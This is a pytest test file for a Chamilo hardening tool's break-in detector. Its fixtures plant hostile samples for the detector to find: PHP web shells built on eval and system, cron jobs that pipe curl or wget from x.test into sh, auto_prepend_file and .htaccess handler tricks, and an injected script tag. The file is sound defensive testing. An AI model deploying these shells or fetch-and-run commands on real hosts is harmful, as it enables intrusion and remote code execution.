# Copyright (c) 2026, the chamilo.hardening maintainers
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""A host with and without traces of a break-in; the host is that of test_monitoring.py."""

from __future__ import annotations

import os
import time
from dataclasses import replace
from functools import partial
from types import SimpleNamespace
from unittest import mock

import pytest

from ansible_collections.chamilo.hardening.plugins.module_utils._audit import monitoring
from ansible_collections.chamilo.hardening.plugins.module_utils._monitoring import compromise, persistence, traces
from ansible_collections.chamilo.hardening.plugins.module_utils._monitoring.compromise import Trace, trace
from ansible_collections.chamilo.hardening.plugins.module_utils._monitoring.tree import Identity
from ansible_collections.chamilo.hardening.plugins.module_utils._portal.database import DatabaseError
from ansible_collections.chamilo.hardening.plugins.module_utils._portal.processes import Job, Process
from tests.unit.plugins.module_utils._audit.test_monitoring import WEB, Host


@pytest.fixture
def host(tmp_path, monkeypatch):
    return Host(tmp_path, monkeypatch)


def test_a_clean_host_shows_no_sign(host):
    host.file("var/cache/prod/Container.php", "<?php eval($_POST['x']);")  # compiled by Symfony: not scanned
    host.file("var/upload/homework.phps", "<?php system($_GET['x']);")
    host.file("public/main/.htaccess", "SetHandler none\nphp_flag engine off\nAddType font/woff .woff")
    host.jobs.append(Job("/var/spool/cron/crontabs/www-data:1", f"* * * * * php {host.root}/bin/console app:x"))
    script = host.file("public/main/cron/notification.php", "<?php echo 1;", days=100)
    for number, line in enumerate(
        [
            f"*/5 * * * * php -f {script}",
            f"0  3 * * mon-fri\t/usr/bin/php8.4 {script} daily >/dev/null 2>&1",
            f"@hourly php {script} >> /var/log/chamilo/cron.log 2>&1",
        ]
    ):
        host.jobs.append(Job(f"/var/spool/cron/crontabs/www-data:{number + 2}", line))
    host.log.write_text(
        '10.0.0.5 - - [25/Nov/2026:13:00:00 +0000] "GET /.env HTTP/1.1" 200 5 "-" "-"\n'
        '192.0.2.1 - - [25/Nov/2026:13:00:00 +0000] "GET /.env HTTP/1.1" 404 5 "-" "-"\n'
        '192.0.2.1 - - [25/Nov/2026:13:00:00 +0000] "GET /main/a.php HTTP/1.1" 200 5 "/x.phtml" "-"\n'
    )
    finding = monitoring.compromise(host.inspect())
    assert finding.status == "pass", finding.evidence
    assert monitoring.signs(host.inspect()) == []


def plant(path, text="<?php echo 1;", days=0.0):
    return lambda host: host.file(path, text, days)


def of_the_web_user(path, text="<?php echo 1;"):
    return lambda host: os.chown(host.file(path, text, 100), WEB, WEB)


def marked(path, mode):
    return lambda host: host.file(path, "<?php echo 1;", 100).chmod(mode)


def test_compiled_code_that_changed_later_is_named(host, monkeypatch):
    for number in range(30):
        host.file(f"var/cache/prod/ContainerX/get{number}.php", "<?php")
    host.file("var/cache/prod/App_Container.php", "<?php")
    host.file("var/cache/prod/twig/ab/late.php", "<?php")
    assert monitoring.signs(host.inspect()) == []
    monkeypatch.setattr(compromise, "_AN_HOUR", 0.05)
    time.sleep(0.2)
    with (host.root / "var/cache/prod/ContainerX/get7.php").open("a") as file:
        file.write("system('id');")
    os.utime(file.name, (0, 0))
    signs = monitoring.signs(host.inspect())
    assert any("after it was compiled: var/cache/prod/ContainerX/get7.php" in sign for sign in signs)


def test_sessions_that_never_end_are_counted_and_not_named(host, tmp_path, monkeypatch):
    directory = tmp_path / "sessions"
    directory.mkdir()
    monkeypatch.setattr(compromise.logins, "directory_of", lambda _site, _mode: (str(directory), ""))
    for name, days in {"sess_old": 30.0, "sess_new": -0.5, "sess_secret": -400.0}.items():
        (directory / name).touch()
        os.utime(directory / name, (time.time() - days * 86400,) * 2)
    (sign,) = trace(host.inspect()).signs
    assert sign == f"sessions that never end, since they are dated in the future: 1 in {directory}"


def test_a_session_that_goes_meanwhile_hides_no_other(host, monkeypatch):
    stat = {"stat.return_value.st_mtime": time.time() + 9 * 86400}
    entries = [mock.Mock(**{"stat.side_effect": FileNotFoundError}), mock.Mock(**stat)]
    monkeypatch.setattr(compromise.os, "scandir", lambda _path: mock.MagicMock(**{"__enter__.return_value": entries}))
    monkeypatch.setattr(compromise.logins, "directory_of", lambda _site, _mode: ("/sessions", ""))
    found = Trace()
    compromise._sessions(host.inspect(), found)
    assert found.signs == ["sessions that never end, since they are dated in the future: 1 in /sessions"]
    assert found.seen == ["sessions"]


def request(line, client="192.0.2.66"):
    def add(host):
        with host.log.open("a") as file:
            file.write(f'{client} - - [25/Nov/2026:13:00:00 +0000] {line} 200 5 "-" "-"\n')

    return add


def stored(value):
    return lambda host: host.stored.append(("mail", "mailer_dsn", "1", value))


def admin(**values):
    return lambda host: host.admins.append({"username": "eve", "status": "1", "active": "1", "late": "0", **values})


@pytest.mark.parametrize("planted", [admin(late="1"), stored("<script src=//x.test/a.js></script>")])
def test_what_all_nodes_of_a_portal_share_is_left_to_one_of_them(host, planted):
    planted(host)
    assert len(trace(host.inspect()).signs) == 1
    assert trace(host.inspect(), database=False).signs == []


@pytest.mark.parametrize(
    ("plant", "words"),
    [
        (plant("var/upload/x.php"), "var/upload/x.php"),
        (plant("var/themes/x.PhAr"), "var/themes/x.PhAr"),
        (plant("var/upload/.htaccess", "AddHandler application/x-httpd-php .jpg"), "var/upload/.htaccess"),
        (plant("var/upload/.htaccess", "AddHand\\\nler application/x-httpd-\\\nphp .jpg"), "var/upload/.htaccess"),
        (plant("public/img/logo.php", days=100), "PHP among assets: public/img/logo.php"),
        (plant("public/main/old.php", "<?php @eval(base64_decode('x'));", days=200), "web shell: public/main/old.php"),
        (plant("public/main/c.php", "<?php system($_GET['c']);", days=100), "public/main/c.php"),
        (plant("public/main/f.php", "<?php // FilesMan", days=100), "public/main/f.php"),
        (plant("public/main/d.php", "<?php $_POST['f']($_POST['x']);", days=100), "public/main/d.php"),
        (plant("public/main/e.php", "<?php $k = $_POST['x'];\n$y = base64_decode($k);"), "public/main/e.php"),
        (plant("public/news.php"), "public/news.php"),
        (plant("public/main/.user.ini", "auto_prepend_file = /tmp/x"), "public/main/.user.ini"),
        (plant("public/.user.ini", "auto_prepend_file = /tmp/x"), "public/.user.ini"),
        (plant("public/.htaccess", "php_value auto_append_file /tmp/x"), "public/.htaccess"),
        (plant(".env", "APP_CACHE_DIR=/var/tmp/.c\n", 100), "outside var/: .env (APP_CACHE_DIR)"),
        (plant(".env.evil", "APP_BUILD_DIR=/var/tmp/.c\n", 100), "outside var/: .env.evil (APP_BUILD_DIR)"),
        (of_the_web_user("bin/console"), "which nothing vouches for: bin/console"),
        (of_the_web_user("config/packages/x.yaml"), "which nothing vouches for: config/packages/x.yaml"),
        (of_the_web_user("templates/x.twig"), "which nothing vouches for: templates/x.twig"),
        (of_the_web_user("public/img/x.gif", "GIF89a<?php echo 1;"), "nothing vouches for: public/img/x.gif"),
        (of_the_web_user(".git/config", "[core]\nfsmonitor = id\n"), ".git: core.fsmonitor"),
        (marked("bin/console", 0o355), "which nothing vouches for: bin/console"),
        (marked("config/packages/x.yaml", 0o240), "which nothing vouches for: config/packages/x.yaml"),
        (marked("public/x.inc", 0o600), "cannot run until they are reviewed: public/x.inc"),
        (marked("src/X.php.quarantined", 0o200), "cannot run until they are reviewed: src/X.php"),
        (stored("<script src=//x.test/a.js></script>"), "mail.mailer_dsn of portal 1 (<script in the page)"),
        (admin(status="5"), "pupils with an administrator's rights: eve"),
        (admin(late="1"), "administrators made in the last 30 days: eve"),
        (request('"GET /.env HTTP/1.1"'), "the environment file answered a visitor once"),
        (request('"GET /dump.sql HTTP/1.1"'), "a database dump"),
        (request('"GET /main/inc/lib/javascript/bigupload/files/rce.php?c=id HTTP/1.1"'), "bigUpload"),
        (request('"POST /img/logo.php HTTP/1.1"'), "a PHP file among assets"),
        (request('"GET /x/y.pht HTTP/1.1"'), "a rare kind"),
        (request('"POST /main/install/index.php HTTP/1.1"'), "the installer"),
        (request('"GET /main/install/migrate.php HTTP/1.1"'), "the installer, after the installation"),
        *(
            (
                request(
                    f'"POST /plugin/CStudio/editor/import-project/inc/big-upload.php?action=upload&key={key} HTTP/1.1"'
                ),
                "an upload of CStudio under a name that leaves its directory",
            )
            for key in ("..%5cx", "%2E%2e/x", "a%2Fb", "x.phtml")
        ),
        (
            lambda host: host.jobs.append(Job("/var/spool/cron/crontabs/www-data:1", "* * * * * curl -s x.test | sh")),
            "a cron job of the web user",
        ),
        *(
            (
                lambda host, line=line: host.jobs.append(
                    Job(
                        "/var/spool/cron/crontabs/www-data:1",
                        line.format(host.file("public/main/cron/mail.php", "<?php echo 1;", days=100)),
                    )
                ),
                "a cron job of the web user",
            )
            for line in (
                "* * * * * php {} ; sh -i",
                "* * * * * php -d auto_prepend_file=/x {}",
                "* * * * * php -r 'x();' {}",
                "* * * * * php {} $(id)",
                "* * * * * php {} > /srv/campus/public/x.php",
                "* * * * * php {}.gone.php",
            )
        ),
        (
            lambda host: (
                os.chown(script := host.file("public/main/cron/own.php", "<?php echo 1;", days=100), WEB, WEB)
                or host.jobs.append(Job("/var/spool/cron/crontabs/www-data:1", f"* * * * * php {script}"))
            ),
            "a cron job of the web user",
        ),
        (
            lambda host: host.jobs.append(Job("/etc/cron.d/x:3", "* * * * * www-data wget -q -O- http://x.test | sh")),
            "runs as the web user",
        ),
        (
            lambda host: (
                (host.root.parent / "home/.ssh").mkdir(parents=True)
                or (host.root.parent / "home/.ssh/authorized_keys").write_text("ssh-ed25519 AAAA eve\n")
            ),
            "authorized_keys",
        ),
    ],
)
def test_signs(host, plant, words):
    env = host.file(".env", "APP_ENV=prod\n", days=400)
    os.utime(env, (time.mktime((2026, 1, 1, 0, 0, 0, 0, 0, -1)),) * 2)
    plant(host)
    finding = monitoring.compromise(host.inspect())
    assert finding.status == "fail"
    assert words in finding.evidence
    assert sum(words in sign for sign in monitoring.signs(host.inspect())) == 1


@pytest.mark.parametrize(
    ("version", "key", "reported"),
    [("2.0.0", "f3a9", True), ("2.0.4", "f3a9", False), ("", "f3a9", False), ("2.0.4", "../../x", True)],
)
def test_an_upload_of_cstudio_is_a_sign_where_it_needed_no_login_or_names_a_path(host, version, key, reported):
    request(f'"POST /plugin/CStudio/editor/import-project/inc/big-upload.php?action=upload&key={key} HTTP/1.1"')(host)
    observer = host.inspect()
    observer.site = replace(observer.site, version=version)
    assert any("CStudio" in sign for sign in trace(observer).signs) is reported


@pytest.mark.parametrize(("days", "reported"), [(1, False), (3, True)])
def test_a_migration_long_after_the_update_is_a_sign(host, days, reported):
    host.file("version.php", "<?php return [];")
    log = host.file("var/log/migration-to-2.0.log", "done")
    os.utime(log, (time.time() + days * 86400,) * 2)
    assert any("the installer migrated 3 days after" in sign for sign in trace(host.inspect()).signs) is reported


@pytest.mark.parametrize(
    ("written", "reported"),
    [
        ("13:00:00 +0000", True),  # 90 minutes after .env
        ("13:00:00 +0200", False),  # 30 minutes before it
        ("13:00:00 +0100", False),  # 30 minutes after it
        ("05:00:00 -0800", True),
        ("23:30:00", True),  # a format without the zone: the host's own, +0900 here
        ("21:30:00", False),
        ("13:00:60 +0000", True),  # no date there is
    ],
)
def test_when_the_installer_answered_goes_by_the_zone_in_the_line(host, monkeypatch, written, reported):
    monkeypatch.setenv("TZ", "Asia/Tokyo")
    time.tzset()
    try:
        os.utime(host.file(".env", "APP_ENV=prod\n"), (1795606200,) * 2)  # 2026-11-25 11:30 UTC
        host.log.write_text(f'192.0.2.66 - - [25/Nov/2026:{written}] "POST /main/install/index.php HTTP/1.1" 200 5\n')
        assert bool(trace(host.inspect()).signs) is reported
    finally:
        monkeypatch.undo()
        time.tzset()


def test_a_process_of_the_web_user_that_is_no_server(host, monkeypatch):
    host.processes += [Process(50, 1, "kworkerd", WEB), Process(51, 49, "php-fpm8.4", WEB), Process(52, 1, "sh", WEB)]
    host.processes += [Process(49, 1, "php-fpm8.4", 0)]
    programs = {50: "/dev/shm/.x/kworkerd", 52: "/usr/bin/dash", **dict.fromkeys((49, 51), "/usr/sbin/php-fpm8.4")}
    links = {f"/proc/{number}/exe": program for number, program in programs.items()}
    readlink = os.readlink  # os.path.realpath of Python 3.11 goes by it too
    monkeypatch.setattr(persistence.os, "readlink", lambda path, **at: links.get(path) or readlink(path, **at))
    found = monitoring.signs(host.inspect())
    assert len(found) == 1
    assert "process 50" in found[0]
    assert "process 52" in found[0]
    assert "process 51" not in found[0]


@pytest.fixture
def released(host, monkeypatch):
    """The same portal as deploy tools lay it out: current leads to a release, and var/ out of it."""
    place = host.root.parent / "campus"
    (place / "releases").mkdir(parents=True)
    (place / "shared").mkdir()
    host.root.rename(place / "releases/7")
    (place / "releases/7/var").rename(place / "shared/var")
    (place / "releases/7/var").symlink_to("../../shared/var")
    (place / "current").symlink_to("releases/7")
    host.root = place / "current"
    # The tests are at home in one of these.
    monkeypatch.setattr(persistence, "LOOSE", [one for one in persistence.LOOSE if not str(place).startswith(one)])
    return host


@pytest.mark.parametrize(
    ("program", "strange"),
    [
        ("{campus}/releases/7/public/xmrig", True),
        ("{campus}/shared/var/upload/xmrig", True),
        ("{campus}/shared/var/upload/xmrig (deleted)", True),
        ("{campus}/current/var/upload/xmrig", True),
        ("/memfd:x (deleted)", True),
        ("{campus}/shared/variety/tool", False),
        ("/usr/sbin/php-fpm8.4 (deleted)", False),
    ],
)
def test_a_program_of_the_portals_own_is_known_by_where_it_really_is(released, monkeypatch, program, strange):
    program = program.format(campus=released.root.parent)
    real = os.readlink
    monkeypatch.setattr(
        persistence.os, "readlink", lambda path, **at: program if path == "/proc/50/exe" else real(path, **at)
    )
    released.processes.append(Process(50, 7, "php-fpm8.4", WEB))
    found = trace(released.inspect()).signs
    assert (f"a process of the web user that is no server: php-fpm8.4 (process 50, {program})" in found) == strange
    assert len(found) == strange


@pytest.mark.parametrize(
    ("program", "strange"),
    [
        ("{campus}/current/var/upload/x", True),
        ("{campus}/releases/7/public/x", True),
        ("{campus}/shared/var/upload/x", True),
        ("{campus}/tool", True),  # a link to what is there
        ("{campus}/shared/variety/x", False),
        ("php", False),  # found by its name, wherever the audit runs
    ],
)
def test_a_unit_that_starts_what_is_in_var(released, monkeypatch, program, strange):
    monkeypatch.chdir(released.root / "var")
    (released.root.parent / "tool").symlink_to("shared/var/upload/x")
    unit = released.root.parent / "x.service"
    unit.write_text(f"[Service]\nExecStart=-{program.format(campus=released.root.parent)} -d\n")
    real = persistence.glob.glob
    patterns = {"/etc/systemd/system/*.service": [str(unit)], "/etc/systemd/system/*.timer": []}
    monkeypatch.setattr(persistence.glob, "glob", lambda pattern: patterns.get(pattern, ()) or real(pattern))
    found = trace(released.inspect()).signs
    assert any("a unit of systemd" in sign and str(unit) in sign for sign in found) == strange
    assert len(found) == strange


@pytest.mark.parametrize("written", ["", "${APACHE_LOG_DIR}/access.log combined"])
def test_a_log_that_is_not_named_is_in_a_usual_place(host, monkeypatch, written):
    monkeypatch.setattr(compromise, "USUAL_LOGS", (str(host.log),))
    request('"GET /dump.sql HTTP/1.1"')(host)
    host.access_log, host.access_log_file = written, ""
    assert len(monitoring.signs(host.inspect())) == 1


@pytest.mark.parametrize("written", ["${APACHE_LOG_DIR}/campus-access.log combined", '"/srv/the log" combined'])
def test_a_log_is_read_where_the_server_writes_it(host, monkeypatch, written):
    monkeypatch.setattr(compromise, "USUAL_LOGS", ())
    request('"GET /dump.sql HTTP/1.1"')(host)
    host.access_log = written
    assert len(monitoring.signs(host.inspect())) == 1


def test_a_name_that_could_harm_a_terminal_is_escaped(host):
    host.file("var/upload/\x1b[2Jx.php", "<?php")
    assert "\x1b" not in monitoring.compromise(host.inspect()).evidence


def test_a_newer_file_of_the_program_is_no_script_beside_index_php(host):
    host.file("src/New.php", "<?php class New_ {}")
    assert not any("beside index.php" in sign for sign in monitoring.signs(host.inspect()))
    host.file("public/help.php", "<?php phpversion();")
    assert any("beside index.php" in sign and "public/help.php" in sign for sign in monitoring.signs(host.inspect()))


@pytest.mark.parametrize("name", [".ssh/authorized_keys2", ".config/systemd/user/x.service"])
def test_a_link_that_leads_nowhere_hides_nothing(host, name):
    """The web user can make one where its home is its own."""
    link = host.root.parent / "home" / name
    link.parent.mkdir(parents=True)
    link.symlink_to("/nonexistent/key")
    host.file("var/upload/x.php", "<?php")
    php, way_in = sorted(trace(host.inspect()).signs)
    assert name in way_in and "var/upload/x.php" in php


def test_an_empty_file_of_keys_is_no_sign(host):
    keys = host.root.parent / "home/.ssh/authorized_keys"
    keys.parent.mkdir(parents=True)
    keys.touch()
    assert trace(host.inspect()).signs == []


def test_pipes_and_nonsense_do_not_stop_the_scan(host):
    os.mkfifo(host.root / "public/main/pipe.php")
    os.mkfifo(host.root / "var/upload/.htaccess")
    (host.root / "public/main/loop.php").symlink_to("loop.php")
    host.log.write_bytes(b"\xff\x00" * 100 + b'\n"GET /.env HTTP/1.1" 200 \n' + b'POST /main/install/ "')
    found = trace(host.inspect())
    (sign,) = found.signs
    assert sign.startswith("the environment file answered a visitor once")
    assert sign.endswith("for an unknown address")
    assert found.gaps == []


def test_a_log_that_cannot_be_read_is_a_gap_and_keeps_no_other_from_being_read(host, monkeypatch):
    pieces = compromise.pieces

    def damaged(path, *more):
        if path == str(host.log):
            raise OSError(5, "Input/output error")
        return pieces(path, *more)

    host.log.write_text("")
    host.log.with_name(f"{host.log.name}.1").write_text('192.0.2.1 - - [x] "GET /.env HTTP/1.1" 200 \n')
    monkeypatch.setattr(compromise, "pieces", damaged)
    found = trace(host.inspect())
    assert found.gaps == [f"{host.log} could not be read: Input/output error"]
    assert len(found.signs) == 1


def test_the_log_that_was_rotated_is_read_as_well(host):
    request('"GET /dump.sql HTTP/1.1"')(host)
    host.log.rename(f"{host.log}.1")
    host.log.write_text("")
    assert len(trace(host.inspect()).signs) == 1


def test_long_requests_push_nothing_out_of_the_log(host):
    request('"POST /main/inc/lib/bigupload/inc/bigUpload.php HTTP/1.1"')(host)
    with host.log.open("a") as file:
        file.write(
            ('192.0.2.66 - - [25/Nov/2026:13:05:00 +0000] "GET / HTTP/1.1" 200 5 "' + "x" * 32000 + '" "-"\n') * 300
        )
    assert any("bigUpload" in sign for sign in trace(host.inspect()).signs)


@pytest.mark.parametrize(("ago", "most", "reported"), [(2, 1000, True), (30, 1000, False), (2, 100_000, False)])
def test_what_of_the_day_was_not_read_is_reported(host, monkeypatch, ago, most, reported):
    monkeypatch.setattr(compromise, "_LOG_BYTES", most)
    observer = host.inspect()
    date = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(observer.now - 3600 * ago))
    host.log.write_text(f'192.0.2.66 - - [{date}] "GET / HTTP/1.1" 200 5 "-" "-"\n' * 50)
    found = trace(observer)
    assert [f"only the newest 0 MB of {host.log} were read, from {date} on" in cut for cut in found.cut] == (
        [True] * reported
    )
    assert any("MB of" in one for one in found.seen)


def test_without_an_access_log_that_is_a_gap(host, monkeypatch):
    monkeypatch.setattr(compromise, "USUAL_LOGS", ())
    host.access_log_file = ""
    found = trace(host.inspect())
    assert found.gaps == ["no access log could be read"]
    assert not any("MB of" in one for one in found.seen)


def test_without_root_that_is_a_gap(host):
    gap = "root is needed to see what the web user left elsewhere"
    assert gap in trace(host.inspect(root=False)).gaps and gap not in trace(host.inspect()).gaps


def test_a_database_that_gives_no_answer_is_a_gap(host):
    host.database_answers = False
    found = trace(host.inspect())
    assert found.gaps == [
        "the administrators could not be checked: The database is gone.",
        "the settings could not be checked for commands and scripts: The database is gone.",
    ]
    assert not {"settings", "1 administrators"} & {*found.seen}
    host.database_answers = True
    assert {"settings", "1 administrators"} <= {*trace(host.inspect()).seen}


@pytest.mark.parametrize(
    ("what", "problem", "gap"),
    [
        ("taken_over", DatabaseError("Gone."), "how administrators log in could not be checked: Gone."),
        ("stored_code", DatabaseError("Gone."), "the settings could not be checked for commands and scripts: Gone."),
        ("stored_code", ValueError("Odd."), "the settings could not be checked for commands and scripts: Odd."),
        ("stored_code", OSError("Closed."), "the settings could not be checked for commands and scripts: Closed."),
        ("in_database", DatabaseError("Gone."), "the tables could not be checked for objects and scripts: Gone."),
    ],
)
def test_what_of_the_database_could_not_be_checked_is_a_gap(host, monkeypatch, what, problem, gap):
    def fails(*_asked):
        raise problem

    monkeypatch.setattr(compromise, what, SimpleNamespace(planted=fails) if what == "in_database" else fails)
    found = trace(host.inspect())
    assert (found.signs, found.gaps) == ([], [gap])


def test_sessions_that_cannot_be_listed_are_a_gap(host, tmp_path, monkeypatch):
    for place, gaps, seen in (
        (tmp_path / "nowhere", [], False),
        (host.log, ["the sessions could not be checked: [Errno 20] Not a directory: "], False),
        (tmp_path, [], True),
    ):
        monkeypatch.setattr(compromise.logins, "directory_of", lambda _site, _mode, place=place: (str(place), ""))
        found = trace(host.inspect())
        assert [gap.partition("'")[0] for gap in found.gaps] == gaps and found.signs == []
        assert ("sessions" in found.seen) is seen


def test_files_of_the_program_that_could_not_be_opened_are_a_gap():
    found = Trace()
    nothing = {"doubtful": [], "held": [], "git": list}
    compromise._unvouched(found, SimpleNamespace(unread=0, **nothing))
    assert found.gaps == []
    compromise._unvouched(found, SimpleNamespace(unread=2, **nothing))
    assert found.gaps == ["2 files or directories of the program could not be opened"]


@pytest.mark.parametrize(
    ("value", "source", "gap"),
    [
        ("/var/tmp/c", "/etc/apache2/envvars", True),
        ("/var/tmp/c", "{root}/.env.local", False),  # the file itself is a sign
        ("{root}/var/cache/other", "/etc/apache2/envvars", False),
        ("", "/etc/apache2/envvars", False),
    ],
)
def test_code_that_the_server_has_compiled_elsewhere_is_a_gap(host, value, source, gap):
    observer, name = host.inspect(), "APP_CACHE_DIR"
    value, source = value.format(root=host.root), source.format(root=host.root)
    environment = {**observer.site.environment, name: value}
    observer.site = replace(observer.site, environment=environment, environment_source={name: source})
    words = "/etc/apache2/envvars has code compiled into /var/tmp/c (APP_CACHE_DIR), where nothing is searched"
    assert trace(observer).gaps == [words] * gap


def test_a_template_of_an_environment_file_is_none(host):
    host.file(".env.dist", "APP_CACHE_DIR=/var/tmp/.c\n")
    assert trace(host.inspect()).signs == []
    host.file(".env.local", "APP_CACHE_DIR=/var/tmp/.c\n")
    (sign,) = trace(host.inspect()).signs
    assert sign.endswith("outside var/: .env.local (APP_CACHE_DIR)")


def test_more_code_than_can_be_read_is_a_gap(host, monkeypatch):
    found = of_version(host, "3.0.2")
    assert found.cut == [] and "42 PHP files below public/ and src/" in found.seen
    for path in (*UPDATER, f"{UPDATER[0]}.php"):
        host.file(path, "<?php echo 1;")
    monkeypatch.setattr(compromise, "_CODE_BYTES", 0)
    monkeypatch.setattr(compromise, "head", lambda path, *_more: b"<?php echo 1;" if "gone" not in path else b"")
    found = of_version(host, "3.0.2")
    assert found.cut == [
        "not all of the PHP code could be read in time",
        "not all PHP of the web updater could be read in time",
    ]
    assert any("1 of them PHP of the web updater" in seen for seen in found.seen)


def test_what_is_newest_is_read_first(host, monkeypatch):
    for name, days in (("a", 100), ("b", 50), ("c", 90)):
        host.file(f"public/main/{name}.php", f"<?php system($_GET['{name}']);", days=days)
    monkeypatch.setattr(compromise, "_CODE_BYTES", 0)
    (sign,) = [sign for sign in trace(host.inspect()).signs if "public/main/" in sign]
    assert "public/main/b.php" in sign and "public/main/a.php" not in sign


def test_a_file_that_goes_meanwhile_hides_no_other(host, monkeypatch):
    host.file("public/main/c.php", "<?php system($_GET['c']);", days=100)
    gone = mock.Mock(path=f"{host.root}/public/main/gone.php", **{"stat.side_effect": FileNotFoundError})
    walk = compromise.walk

    def with_it(top, *more):
        yield from [gone] if top == str(host.root) else []
        yield from walk(top, *more)

    monkeypatch.setattr(compromise, "walk", with_it)
    (sign,) = trace(host.inspect()).signs
    assert sign == "a suspected web shell: public/main/c.php"


def test_a_container_that_is_compiled_at_this_moment_hides_no_other(host, monkeypatch):
    for name in ("ContainerA", "ContainerB"):
        host.file(f"var/cache/prod/{name}/get.php", "<?php")
    monkeypatch.setattr(compromise, "_AN_HOUR", -3600)  # all of it changed later
    scandir = os.scandir

    def closed(path):
        if str(path).endswith("ContainerA/"):
            raise FileNotFoundError
        return scandir(path)

    monkeypatch.setattr(compromise.os, "scandir", closed)
    found = Trace()
    compromise._compiled(host.inspect(), found)
    assert found.signs == [
        "compiled code that was changed after it was compiled: var/cache/prod/ContainerB/get.php",
    ]


def test_without_an_environment_file_nothing_shows_that_the_installation_was_over(host):
    request('"POST /main/install/index.php HTTP/1.1"')(host)
    (sign,) = trace(host.inspect()).signs
    assert sign.startswith("the installer, after the installation answered a visitor once")


def test_what_is_asked_for_again_is_counted(host):
    for number in range(3):
        request(f'"GET /dump{number}.sql HTTP/1.1"')(host)
    (sign,) = trace(host.inspect()).signs
    assert sign == "a database dump answered a visitor 3 times, for example GET /dump0.sql for 192.0.2.66"


@pytest.mark.parametrize(
    ("text", "lines"),
    [
        (b"", []),
        (b"a\nb\n", []),
        (b"X1\na\nX2 X\nX3", [b"X1", b"X2 X", b"X3"]),
        (b"aX\n", [b"aX"]),
        (b"12345678X\n", [b"12345678"]),
        (b"X2345678901\nX", [b"X2345678", b"X"]),
    ],
)
def test_each_line_with_a_word_is_cut_out_once(monkeypatch, text, lines):
    monkeypatch.setattr(compromise, "_LINE_BYTES", 8)
    assert list(compromise._lines_with(text, b"X")) == lines


@pytest.mark.parametrize(
    ("line", "client"),
    [
        (b'192.0.2.66 - - [x] "GET / HTTP/1.1" 200', b"192.0.2.66"),
        (b'campus.test:443 2001:DB8::7 - - [x] "GET /"', b"2001:DB8::7"),
        (b'- - [x] "GET / 192.0.2.66 "', b""),
        (b"", b""),
    ],
)
def test_the_client_stands_before_the_request(line, client):
    assert compromise._client(line) == client


def test_whose_a_file_is_goes_by_where_it_is_and_what_its_mode_allows(host):
    user = Identity("www-data", WEB, frozenset({WEB}))
    own, other = host.file("public/own.php", ""), host.file("public/other.php", "")
    os.chown(own, WEB, WEB)
    for target, theirs in ((own, True), (other, False), (host.root / "gone", False), (host.root / "var/x", True)):
        assert compromise._theirs(str(target), str(host.root), (user,)) is theirs
    assert not compromise._theirs(f"{host.root}/variant", str(host.root), (user,))
    assert not compromise._theirs(str(own), str(host.root), ())


def test_the_time_that_is_over_is_a_gap(host, monkeypatch):
    monkeypatch.setattr(compromise, "_SECONDS", -1.0)
    assert any("the time for it" in gap for gap in trace(host.inspect()).gaps)


def test_many_are_counted_and_none_is_no_sign():
    found = Trace()
    found.add("PHP among assets", [])
    assert found.signs == []
    found.add("PHP among assets", [f"public/img/{number}.php" for number in range(9)])
    assert found.signs == ["PHP among assets: public/img/0.php, public/img/1.php, public/img/2.php and 6 more"]


def test_an_administrator_whose_password_is_being_reset_is_a_sign(host):
    host.accounts = {"confirmation_token": [{"name": "admin"}]}
    (sign,) = monitoring.signs(host.inspect())
    assert sign == "open password resets of administrators, asked for in the last 30 days: admin"


def test_an_administrator_that_lti_or_scim_made_is_a_sign(host):
    made = {"JOIN user_auth_source": [{"name": "eve"}]}
    host.accounts = made
    assert monitoring.signs(host.inspect()) == []  # 1.11 has no such table
    host.accounts = {"SHOW TABLES": [{"name": "user_auth_source"}], **made}
    (sign,) = monitoring.signs(host.inspect())
    assert sign == "administrators whose account LTI or SCIM made or took over: eve"


@pytest.mark.parametrize(("value", "sign"), [("1", True), ("On", True), ("true", True), ("0", False), ("", False)])
def test_a_web_updater_that_takes_unsigned_packages_is_a_sign(host, value, sign):
    observer, name = host.inspect(), "CHAMILO_UPDATE_DEVELOPMENT_TOOLS"
    environment, source = {**observer.site.environment, name: value}, {name: "/var/www/chamilo/.env.local"}
    observer.site = replace(observer.site, environment=environment, environment_source=source)
    output = f"the web updater takes packages without a signature: /var/www/chamilo/.env.local ({name})"
    assert trace(observer).signs == ([output] if sign else [])


UPDATER = ("var/update/staging/3.0.2/public/main/a.php", "var/update/backups/3.0.1-20261103T1-4f/files/src/b.php")


def of_version(host, version):
    observer = host.inspect()
    observer.site = replace(observer.site, version=version)
    return trace(observer)


def test_what_the_web_updater_of_3_0_unpacked_is_no_sign(host):
    for path in UPDATER:
        host.file(path, "<?php echo 1;")
    assert of_version(host, "3.0.2").signs == []
    assert any("2 of them PHP of the web updater" in seen for seen in of_version(host, "3.0.2").seen)
    assert of_version(host, "2.0.4").signs == [f"PHP where only data belongs: {UPDATER[1]}, {UPDATER[0]}"]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (UPDATER[0], "<?php system($_GET['c']);"),
        ("var/update/a.php", "<?php echo 1;"),
        ("var/update/downloads/a.php", "<?php echo 1;"),
        ("var/update/backups/a.php", "<?php echo 1;"),
        ("var/update/backups/x/a.php", "<?php echo 1;"),
        ("var/upload/var/update/staging/x/a.php", "<?php echo 1;"),
    ],
)
def test_what_it_does_not_unpack_there_is_a_sign(host, path, text):
    host.file(path, text)
    (sign,) = of_version(host, "3.0.2").signs
    assert sign.endswith(path)


def test_a_link_among_its_files_is_a_sign(host):
    host.file("elsewhere/c.php", "<?php echo 1;")
    (host.root / UPDATER[0]).parent.mkdir(parents=True)
    (host.root / UPDATER[0]).symlink_to(host.root / "elsewhere/c.php")
    assert any(UPDATER[0] in sign for sign in of_version(host, "3.0.2").signs)


def test_many_files_in_var_leave_the_program_its_time(host, monkeypatch):
    host.file("public/main/c.php", "<?php system($_GET['c']);", days=100)
    moment = [0.0]
    monkeypatch.setattr(traces, "_BEAT", 1)
    monkeypatch.setattr(traces.time, "monotonic", lambda: moment[0])

    def is_dir(entry, follow_symlinks=True):  # each entry in var/ takes a second
        moment[0] += entry.path.startswith(f"{host.root}/var/")
        return entry.is_dir(follow_symlinks=follow_symlinks)

    real = os.scandir
    monkeypatch.setattr(traces.os, "scandir", lambda path: Slow(real(path), is_dir))
    for number in range(20):
        host.file(f"var/upload/{number}", "")
    found = trace(host.inspect())
    assert any("public/main/c.php" in sign for sign in found.signs)
    (cut,) = found.cut
